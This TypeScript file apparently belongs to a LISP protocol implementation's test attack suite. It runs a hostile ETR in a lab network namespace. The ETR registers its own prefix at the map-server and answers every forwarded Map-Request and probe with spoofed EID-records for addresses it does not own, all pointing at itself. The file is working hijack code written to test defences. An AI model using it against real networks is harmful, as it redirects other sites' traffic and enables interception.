// The hijacking site member of the attack suite, run in the hostile host's namespace (`ip netns
// exec <ns> node hostile-etr.js <plan.json>`): an ETR that registers its own prefix at the
// map-server with the site key (the project's Registrar: HMAC-SHA-256, Map-Notify checked) and
// answers every Map-Request forwarded to it, and every probe, with its own record plus EID-records
// it does not own (another node's /32 and crypto-EID), all pointing at itself. Prints one JSON
// line per event ("registered", "answered") until SIGTERM.
import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { passwordKey } from '../../src/lisp/auth.js';
import { decodeControl } from '../../src/lisp/control.js';
import { prefix } from '../../src/lisp/prefix.js';
import { Registrar, type RegistrarAction } from '../../src/lisp/xtr-control/registrar.js';
import { eidRecord, mapReply } from './attack-messages.js';

export interface HostileEtrPlan {
  /** Our locator: the RLOC of every record we register or answer with. */
  readonly own: string;
  /** The prefix we may register (e.g. 192.0.2.64/28). */
  readonly prefix: string;
  readonly mapServer: string;
  readonly password: string;
  /** EID-records we add to every answer, claiming them for our locator. */
  readonly claims: readonly { readonly eid: string; readonly length: number }[];
  readonly ttlMinutes: number;
}

const plan = JSON.parse(readFileSync(process.argv[2] ?? '', 'utf8')) as HostileEtrPlan;
const say = (event: Record<string, unknown>): boolean => process.stdout.write(`${JSON.stringify(event)}\n`);
const random = (n: number): Uint8Array => randomBytes(n);
const registrar = new Registrar(
  { eids: [prefix(plan.prefix)], rlocs: [{ address: plan.own }], mapServers: [{ address: plan.mapServer, key: passwordKey(0, 2, plan.password) }], xtrId: randomBytes(16), siteId: 0n },
  random,
);
const socket = createSocket('udp4');
let registered = false;
let timer: NodeJS.Timeout | undefined;

function act(actions: readonly RegistrarAction[]): void {
  for (const a of actions) if (a.kind === 'send') socket.send(a.bytes, a.port, a.to);
  if (!registered && registrar.status().mapServers[0]?.state === 'registered') {
    registered = true;
    say({ event: 'registered' });
  }
  if (timer) clearTimeout(timer);
  const next = registrar.nextTimer();
  if (next !== undefined) timer = setTimeout(() => act(registrar.tick(Date.now())), Math.max(0, next - Date.now()));
}

socket.on('message', (bytes, from) => {
  const data = new Uint8Array(bytes);
  const m = decodeControl(data);
  if (!m.ok) return;
  const message = m.value;
  if (message.type === 'map-notify') {
    act(registrar.mapNotify(data, { address: from.address, port: from.port }, Date.now()));
    return;
  }
  // A forwarded Map-Request (ECM with E) or a probe: answer for our prefix, and for what we claim.
  const request = message.type === 'ecm' && message.message.type === 'map-request' ? message.message : message.type === 'map-request' ? message : undefined;
  if (!request) return;
  const port = message.type === 'ecm' ? message.udp.sourcePort : from.port;
  const to = request.itrRlocs.map((a) => (a.afi === 'ipv4' ? a.address : a.afi === 'lcaf' && a.lcaf.type === 'security-key' && a.lcaf.locator.afi === 'ipv4' ? a.lcaf.locator.address : undefined)).find((a) => a !== undefined);
  if (!to || port === 0) return;
  const own = prefix(plan.prefix);
  const records = [eidRecord(plan.prefix.split('/')[0] ?? '', own.length, plan.own, plan.ttlMinutes), ...plan.claims.map((c) => eidRecord(c.eid, c.length, plan.own, plan.ttlMinutes))];
  socket.send(mapReply(request.nonce, records, request.probe), port, to);
  say({ event: 'answered', to, port, probe: request.probe, records: records.length });
});

socket.bind(4342, plan.own, () => act(registrar.start(Date.now())));
process.on('SIGTERM', () => {
  if (timer) clearTimeout(timer);
  socket.close();
});
